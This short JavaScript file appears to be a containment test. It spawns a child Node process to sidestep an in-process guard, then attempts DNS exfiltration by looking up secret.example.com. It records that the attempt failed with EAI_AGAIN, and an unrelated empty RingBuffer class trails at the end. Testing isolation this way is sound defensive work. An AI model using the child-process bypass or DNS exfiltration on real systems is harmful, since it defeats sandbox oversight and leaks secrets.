/**
 * escape: sends a secret in a question to a name server
 * outcome: EAI_AGAIN
 */
import { spawnSync } from 'node:child_process';

/** Without the guard of the child. */
const SCRIPT = `require('node:dns').lookup('secret.example.com', (error, address) => {
  console.log(error ? error.code : 'ESCAPED ' + address);
});`;
const { stdout, stderr } = spawnSync(process.execPath, ['--eval', SCRIPT], { encoding: 'utf8' });
console.log(stdout, stderr);

export class RingBuffer {}
